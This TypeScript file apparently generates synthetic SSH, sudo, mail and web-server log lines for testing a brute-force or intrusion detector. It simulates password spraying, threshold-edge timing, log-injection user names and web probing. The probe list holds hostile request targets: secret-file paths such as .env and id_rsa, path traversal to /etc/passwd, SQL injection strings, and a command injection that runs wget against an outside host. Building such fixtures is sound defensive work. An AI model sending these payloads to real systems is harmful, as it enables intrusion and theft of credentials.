import type { Chance } from './chance.ts';
import {
  acceptedKey,
  acceptedPassword,
  closedByUser,
  failedPassword,
  invalidUser,
  type MixedLine,
  mailFailure,
  mailLogin,
  type Peer,
  repeatedFailure,
  request,
  sudoFailure,
  suFailure,
} from './lines.ts';

const SECOND = 1000;
const MINUTE = 60 * SECOND;

/** Somebody who leaves a few lines behind, beginning at `at`. Times are kept within minutes, save for the slow one. */
export type Actor = (at: number, random: Chance) => readonly MixedLine[];

const USERS = [
  'root',
  'admin',
  'test',
  'oracle',
  'ubuntu',
  'git',
  'postgres',
  'pi',
  'guest',
  'deploy',
  'www-data',
  'backup',
];

const outside = ({ below }: Chance): Peer => ({
  ip: `198.${18 + below(2)}.${below(256)}.${1 + below(254)}`,
  port: 1025 + below(60_000),
});

const portOf = (peer: Peer, { below }: Chance): Peer => ({ ...peer, port: 1025 + below(60_000) });

const times = (count: number, line: (i: number) => MixedLine): readonly MixedLine[] =>
  Array.from({ length: count }, (_, i) => line(i));

/** Mistypes once or twice, then is in. */
const mistyper: Actor = (at, random) => {
  const peer = { ip: `10.20.${random.below(4)}.${2 + random.below(250)}`, port: 1025 + random.below(60_000) };
  const user = random.oneOf(['ops', 'alice', 'bob', 'carol']);
  const tries = 1 + random.below(2);
  return [
    ...times(tries, (i) => failedPassword(at + i * 4 * SECOND, user, peer)),
    acceptedPassword(at + tries * 4 * SECOND, user, peer),
  ];
};

/** Puts another's address, and whole messages, into user names. */
const injector: Actor = (at, random) => {
  const peer = outside(random);
  const names = [
    'root from 10.20.0.9 port 22 ssh2',
    'x from 10.20.0.9 port 22 ssh2: ED25519 SHA256:AAAA',
    'invalid user y',
    '"; DROP',
    '\u202eadmin',
    ' ',
  ];
  return times(7, (i) => {
    const name = random.oneOf(names);
    const when = at + i * 11 * SECOND;
    const own = portOf(peer, random);
    if (i % 3 === 0) return closedByUser(when, `invalid user ${name}`, own);
    return i % 3 === 1 ? invalidUser(when, name, own) : failedPassword(when, `invalid user ${name}`, own);
  });
};

/** One below every threshold, then gone. */
const belowThreshold: Actor = (at, random) => {
  const peer = outside(random);
  return times(4, (i) => failedPassword(at + i * 30 * SECOND, 'root', portOf(peer, random)));
};

/** The fifth exactly one window behind the first; or a second before that. */
const straddler: Actor = (at, random) => {
  const peer = outside(random);
  const last = 10 * MINUTE - random.below(2) * SECOND;
  return [0, 2 * MINUTE, 5 * MINUTE, 9 * MINUTE, last].map((after) =>
    failedPassword(at + after, 'root', portOf(peer, random)),
  );
};

/** Too slow for the short window. */
const slow: Actor = (at, random) => {
  const peer = outside(random);
  return times(14, (i) => failedPassword(at + i * 3 * MINUTE, random.oneOf(USERS), portOf(peer, random)));
};

/** Addresses of one /64. */
const neighbours: Actor = (at, random) => {
  const net = `2001:db8:${random.below(65_536).toString(16)}:1`;
  return times(6, (i) => {
    const ip = `${net}::${(1 + random.below(65_535)).toString(16)}`;
    return failedPassword(at + i * 20 * SECOND, 'root', { ip, port: 1025 + i });
  });
};

const sprayer: Actor = (at, random) => {
  const peer = outside(random);
  return USERS.map((user, i) => failedPassword(at + i * 100 * SECOND, user, portOf(peer, random)));
};

/** Many sources, one user, one try each. */
const swarm: Actor = (at, random) =>
  times(22, (i) => failedPassword(at + i * 30 * SECOND, 'webmaster', outside(random)));

/** Gets in at last. */
const guesser: Actor = (at, random) => {
  const peer = outside(random);
  return [
    repeatedFailure(at, 3, 'deploy', peer),
    ...times(3, (i) => failedPassword(at + (i + 1) * 20 * SECOND, 'deploy', portOf(peer, random))),
    random.below(2) === 0
      ? acceptedPassword(at + 2 * MINUTE, 'deploy', peer)
      : acceptedKey(at + 2 * MINUTE, 'root', peer),
  ];
};

const climber: Actor = (at, random) => {
  const user = random.oneOf(['alice', 'bob', 'mallory']);
  return random.below(2) === 0
    ? [sudoFailure(at, user, 3), sudoFailure(at + MINUTE, user, 1 + random.below(3))]
    : times(3, (i) => suFailure(at + i * 10 * SECOND, user));
};

const mailGuesser: Actor = (at, random) => {
  const peer = outside(random);
  const isSpray = random.below(2) === 0;
  return [
    mailLogin(at, 'info@example.net', { ip: '10.20.0.7', port: 0 }),
    ...times(11, (i) => mailFailure(at + i * 20 * SECOND, isSpray ? `u${i}@example.net` : 'info@example.net', peer)),
  ];
};

const PAGES = ['/', '/index.html', '/shop?page=2', '/img/logo.png', "/search?q=o'brien", '/blog/2026/11/'];

const visitor: Actor = (at, random) => {
  const peer = { ip: `10.20.${random.below(4)}.${2 + random.below(250)}`, port: 0 };
  return times(8, (i) =>
    request(at + i * SECOND, peer, { target: random.oneOf(PAGES), status: random.below(20) === 0 ? 404 : 200 }),
  );
};

const scanner: Actor = (at, random) => {
  const peer = outside(random);
  return times(35, (i) => request(at + i * 2 * SECOND, peer, { target: `/old/${i}.php`, status: 404 }));
};

const prober: Actor = (at, random) => {
  const peer = outside(random);
  const targets = [
    '/.env',
    '/.git/config',
    '/id_rsa',
    '/?f=..%2f..%2f..%2fetc%2fpasswd',
    "/p?id=1'+OR+'1'='1",
    '/p?id=1+UNION+ALL+SELECT+1,2',
    '/x?cmd=;wget%20http://203.0.113.9/a',
    '/c99.php',
  ];
  return times(24, (i) =>
    request(at + i * 5 * SECOND, peer, {
      target: random.oneOf(targets),
      status: random.oneOf([200, 403, 404]),
      ...(i === 0 && { agent: random.oneOf(['sqlmap/1.7', 'Mozilla/5.0 (compatible; Googlebot/2.1)']) }),
    }),
  );
};

const poster: Actor = (at, random) => {
  const peer = outside(random);
  const target = random.oneOf(['/wp-login.php', '/blog/xmlrpc.php']);
  return times(21, (i) => request(at + i * 10 * SECOND, peer, { method: 'POST', target, status: 200 }));
};

/** Those of the authentication log. */
export const AUTH_ACTORS: readonly Actor[] = [
  mistyper,
  mistyper,
  mistyper,
  injector,
  belowThreshold,
  straddler,
  slow,
  neighbours,
  sprayer,
  swarm,
  guesser,
  climber,
];

export const ALL_ACTORS: readonly Actor[] = [...AUTH_ACTORS, mailGuesser, visitor, visitor, scanner, prober, poster];
